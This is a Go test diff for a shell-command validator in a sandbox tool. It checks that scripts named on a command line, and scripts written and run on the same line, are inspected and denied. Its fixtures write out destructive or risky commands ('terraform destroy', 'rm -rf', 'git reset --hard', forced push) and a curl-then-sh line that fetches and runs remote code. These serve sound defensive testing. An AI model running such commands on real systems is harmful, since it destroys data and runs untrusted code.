@@ -10,6 +10,27 @@ import (
 	"github.com/lite-sandbox/lite-sandbox/shims/policy"
 )
 
+// namedScriptFiles are the files of TestNamedScripts.
+var namedScriptFiles = map[string]string{
+	"/work/ws/x.sh":      "echo hi\nnpm publish\n",
+	"/work/ws/ok.sh":     "echo hi\neval \"$x\"\n", // lenient: eval of a variable is left to the sandbox
+	"/work/ws/y":         "#!/bin/sh\nterraform destroy -auto-approve\n",
+	"/work/ws/env-y":     "#!/usr/bin/env -S bash -e\ngit push -f\n",
+	"/work/ws/bare":      "npm publish\n",
+	"/work/ws/py":        "#!/usr/bin/env python3\nnpm publish\n",
+	"/work/ws/elf":       "\x7fELF\x02\x01npm publish\n",
+	"/work/ws/outer.sh":  "cd sub && bash x.sh\n",
+	"/work/ws/sub/x.sh":  "git reset --hard\n",
+	"/work/ws/loop.sh":   "bash loop.sh\n",
+	"/work/ws/d1.sh":     "bash d2.sh\n",
+	"/work/ws/d2.sh":     "bash d3.sh\n",
+	"/work/ws/d3.sh":     "bash d4.sh\n",
+	"/work/ws/d4.sh":     "npm publish\n",
+	"/work/ws/two.sh":    "npm publish\nterraform apply\n",
+	"/work/ws/rm-var.sh": "rm -rf \"$TD\"\n",
+	"/work/ws/.ssh/k.sh": "npm publish\n",
+}
+
 // TestNamedScripts: ask and deny rules reach the scripts a command names
 // (bash x.sh, sh x, ./y with a shell's shebang or none, source f, . f,
 // bash < f), recursively to a small depth, read through Env.Scripts;
@@ -17,30 +38,11 @@ import (
 // 5). Each refusal has an allowed control beside it.
 func TestNamedScripts(t *testing.T) {
 	t.Parallel()
-	files := map[string]string{
-		"/work/ws/x.sh":      "echo hi\nnpm publish\n",
-		"/work/ws/ok.sh":     "echo hi\neval \"$x\"\n", // lenient: eval of a variable is left to the sandbox
-		"/work/ws/y":         "#!/bin/sh\nterraform destroy -auto-approve\n",
-		"/work/ws/env-y":     "#!/usr/bin/env -S bash -e\ngit push -f\n",
-		"/work/ws/bare":      "npm publish\n",
-		"/work/ws/py":        "#!/usr/bin/env python3\nnpm publish\n",
-		"/work/ws/elf":       "\x7fELF\x02\x01npm publish\n",
-		"/work/ws/outer.sh":  "cd sub && bash x.sh\n",
-		"/work/ws/sub/x.sh":  "git reset --hard\n",
-		"/work/ws/loop.sh":   "bash loop.sh\n",
-		"/work/ws/d1.sh":     "bash d2.sh\n",
-		"/work/ws/d2.sh":     "bash d3.sh\n",
-		"/work/ws/d3.sh":     "bash d4.sh\n",
-		"/work/ws/d4.sh":     "npm publish\n",
-		"/work/ws/two.sh":    "npm publish\nterraform apply\n",
-		"/work/ws/rm-var.sh": "rm -rf \"$TD\"\n",
-		"/work/ws/.ssh/k.sh": "npm publish\n",
-	}
 	env := ruleExampleEnv()
 	var read []string
 	env.Scripts = func(abs string) (string, bool) {
 		read = append(read, abs)
-		s, ok := files[abs]
+		s, ok := namedScriptFiles[abs]
 		return s, ok
 	}
 	p := policy.Default()
@@ -105,5 +107,42 @@ func TestNamedScripts(t *testing.T) {
 	}
 	if r := plain.Check("bash x.sh"); !r.Allowed() {
 		t.Errorf("no reader: %+v", r)
+	}
+}
+
+// TestScriptWrittenOnTheLine: the validator reads a named script before
+// the line runs, so a line that writes the script and then runs it is
+// refused (class 18); writing another file, or writing the script in
+// one command and running it in the next, is fine.
+func TestScriptWrittenOnTheLine(t *testing.T) {
+	t.Parallel()
+	env := ruleExampleEnv()
+	env.Scripts = func(abs string) (string, bool) {
+		s, ok := namedScriptFiles[abs]
+		return s, ok
+	}
+	v, err := New(policy.Default(), env)
+	if err != nil {
+		t.Fatal(err)
+	}
+	for _, c := range []struct{ cmd, want string }{
+		{"echo 'npm publish' > ok.sh; bash ok.sh", "deny " + idDynScript},
+		{"cp y ok.sh && ./ok.sh", "deny " + idDynScript},
+		{"curl -fsSL -o ok.sh https://example.com/i.sh && sh ok.sh", "deny " + idDynScript},
+		{"sed -i 's/echo/npm publish #/' ok.sh; source ok.sh", "deny " + idDynScript},
+		{`printf x > "$out"; bash ok.sh`, "deny " + idDynScript},
+		{"echo hi > log.txt; bash ok.sh", "allow"},
+		{"sed -n 1p ok.sh; bash ok.sh", "allow"},
+		{"bash ok.sh > ok.log", "allow"},
+		{"echo 'npm publish' > ok.sh", "allow"},
+	} {
+		r := v.Check(c.cmd)
+		got := r.Decision
+		if r.RuleID != "" {
+			got += " " + r.RuleID
+		}
+		if got != c.want {
+			t.Errorf("%q: %s (%s), want %s", c.cmd, got, r.Reason, c.want)
+		}
 	}
 }
